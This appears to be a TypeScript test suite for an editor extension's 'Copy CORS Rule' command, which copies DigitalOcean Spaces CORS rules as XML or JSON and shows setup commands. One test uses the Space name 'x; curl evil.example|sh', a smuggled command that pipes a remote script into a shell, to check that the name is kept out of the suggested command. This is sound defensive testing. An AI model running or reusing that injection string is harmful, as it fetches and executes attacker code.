import assert from 'node:assert/strict';
import { copyCorsRule } from '../../../src/commands/copyCorsRule.ts';
import { browserRule, corsJson, corsXml } from '../../../src/core/cors.ts';
import { FakeNotices } from '../../support/fakes/notices.ts';
import { dismiss, FakePrompts, pick } from '../../support/fakes/prompts.ts';
import { FakeClipboard } from '../../support/fakes/small.ts';

function setup(pageOrigin?: string) {
  const fakes = { prompts: new FakePrompts(), notices: new FakeNotices(), clipboard: new FakeClipboard() };
  const opened: string[] = [];
  const openHelp = (topic: string) => opened.push(topic);
  return { ...fakes, opened, deps: { ...fakes, pageOrigin, openHelp } };
}

describe('Copy CORS Rule', () => {
  it('asks in which form, copies it and says where it goes', async () => {
    const { prompts, notices, clipboard, opened, deps } = setup();
    prompts.expect('Copy CORS Rule', pick('XML'));
    assert.equal(await copyCorsRule(deps, { space: 'photos' }), corsXml(browserRule()));
    assert.equal(clipboard.text, corsXml(browserRule()));
    assert.match(
      notices.last.message,
      /DigitalOcean.*settings, under CORS.*s3cmd setcors cors\.xml s3:\/\/photos$/,
    );
    await notices.press('Learn More');
    assert.deepEqual(opened, ['cors']);
  });

  it('as JSON is for the AWS CLI; with the form given nothing is asked', async () => {
    const { prompts, notices, clipboard, deps } = setup();
    assert.equal(await copyCorsRule(deps, { as: 'json' }), corsJson(browserRule()));
    assert.deepEqual([prompts.asked, clipboard.text], [[], corsJson(browserRule())]);
    assert.match(
      notices.last.message,
      /put-bucket-cors --bucket SPACE --cors-configuration file:\/\/cors\.json$/,
    );
  });

  it('puts no name into a command that a Space can not have', async () => {
    const { notices, deps } = setup();
    await copyCorsRule(deps, { as: 'xml', space: 'x; curl evil.example|sh' });
    assert.match(notices.last.message, /s3:\/\/SPACE$/);
  });

  it('in a browser is for the page that the editor runs in, where that is not vscode.dev', async () => {
    const elsewhere = setup('https://code.example.com');
    assert.match(await copyCorsRule(elsewhere.deps, { as: 'xml' }), />https:\/\/code\.example\.com</);
    const there = setup('https://v--1a2b.vscode-cdn.net');
    assert.match(await copyCorsRule(there.deps, { as: 'xml' }), />https:\/\/\*\.vscode-cdn\.net</);
  });

  it('is for the origin that a caller names, if it is one', async () => {
    const { clipboard, deps } = setup('https://code.example.com');
    assert.match(
      await copyCorsRule(deps, { as: 'xml', origin: 'http://localhost:*' }),
      />http:\/\/localhost:\*</,
    );
    await assert.rejects(copyCorsRule(deps, { as: 'xml', origin: 'localhost' }), { code: 'badArguments' });
    assert.equal(clipboard.writes.length, 1);
  });

  it('leaves the clipboard alone when the question is dismissed', async () => {
    const { prompts, clipboard, deps } = setup();
    prompts.answer(dismiss);
    await assert.rejects(copyCorsRule(deps), { name: 'Cancelled' });
    assert.deepEqual(clipboard.writes, []);
  });
});
